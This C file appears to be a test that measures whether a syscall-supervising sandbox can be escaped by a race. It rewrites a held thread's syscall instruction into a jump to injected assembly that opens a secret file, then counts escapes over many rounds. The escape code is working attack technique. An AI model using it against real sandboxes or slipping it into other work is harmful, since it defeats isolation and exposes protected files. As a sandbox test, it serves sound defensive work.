// Overwrites the system call instruction through which a held thread goes on: injected_code SECRET PORT ROUNDS
// A thread connects, in each round in a new address space, and while it is held another thread writes a jump over its
// instruction. The jump leads to code that opens SECRET: if whatever the thread calls then is taken for the
// supervisor's own, the file is among the descriptors. Half of the rounds connect to an address of the internet in more
// room than it needs, which is held by a stop; the others to an abstract name that is as long as an address of the
// internet, which is received, given back, and held by a stop then.
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#ifdef __x86_64__
static unsigned char* code;
static volatile int begun, ended;
static struct sockaddr_storage to;
static struct sockaddr_in internet;
static const struct sockaddr_un abstract = {AF_UNIX, "\0thirteenchars"};
static long size;

// rdi: the path. Opens it, then for ever does nothing.
extern char payload[], payload_end[];
__asm__(
    ".text\n"
    "payload:\n"
    "  movabs $0x700000000000, %rsi\n"
    "  mov $-100, %rdi\n"
    "  xor %edx, %edx\n"
    "  xor %r10d, %r10d\n"
    "  mov $257, %eax\n"  // openat
    "  syscall\n"
    "1: pause\n"
    "  jmp 1b\n"
    "payload_end:\n");

static void* victim(void* socket) {
  long result = SYS_connect;
  begun = 1;
  __asm__ volatile("call *%1"
                   : "+a"(result)
                   : "r"(code), "D"((long)(intptr_t)socket), "S"(&to), "d"(size)
                   : "rcx", "r11", "r10", "memory");
  ended = 1;
  return NULL;
}

static int attempt(const char* secret, int round) {
  char* path = mmap((void*)0x700000000000, 4096, PROT_READ | PROT_WRITE,
                    MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
  code = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (path == MAP_FAILED || code == MAP_FAILED) return 2;
  strcpy(path, secret);
  memcpy(code, "\x0f\x05\xc3", 3);  // syscall; ret
  memcpy(code + 64, payload, (size_t)(payload_end - payload));
  if (round % 2 == 0)
    memcpy(&to, &internet, sizeof internet);
  else
    memcpy(&to, &abstract, sizeof internet);
  size = round % 2 == 0 ? sizeof to : sizeof internet;
  const int socket_fd = socket(to.ss_family, SOCK_DGRAM, 0);
  pthread_t thread;
  if (pthread_create(&thread, NULL, victim, (void*)(intptr_t)socket_fd) != 0) return 2;
  while (!begun) continue;
  usleep(2000u * (unsigned)(round / 2 % 8));
  *(volatile uint16_t*)code = 0x3eeb;  // jmp to code + 64
  for (int wait = 0; wait < 100 && !ended; wait++) usleep(1000);
  char text[64];
  for (int fd = 3; fd < 32; fd++)
    if (pread(fd, text, sizeof text, 0) > 0 && memmem(text, sizeof text, "secret", 6) != NULL) return 1;
  return 0;
}

int main(int argc, char** argv) {
  if (argc != 4) return 2;
  internet = (struct sockaddr_in){
      .sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(argv[2])), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
  int escapes = 0;
  const int rounds = atoi(argv[3]);
  for (int round = 0; round < rounds; round++) {
    const pid_t child = fork();
    if (child < 0) return 2;
    if (child == 0) _exit(attempt(argv[1], round));
    int status;
    if (waitpid(child, &status, 0) != child) return 2;
    if (WIFEXITED(status) && WEXITSTATUS(status) == 1) escapes++;
    if (WIFEXITED(status) && WEXITSTATUS(status) > 1) return 2;
  }
  printf("{\"rounds\":%d,\"escapes\":%d}\n", rounds, escapes);
  return 0;
}
#else
int main(void) { return 77; }
#endif
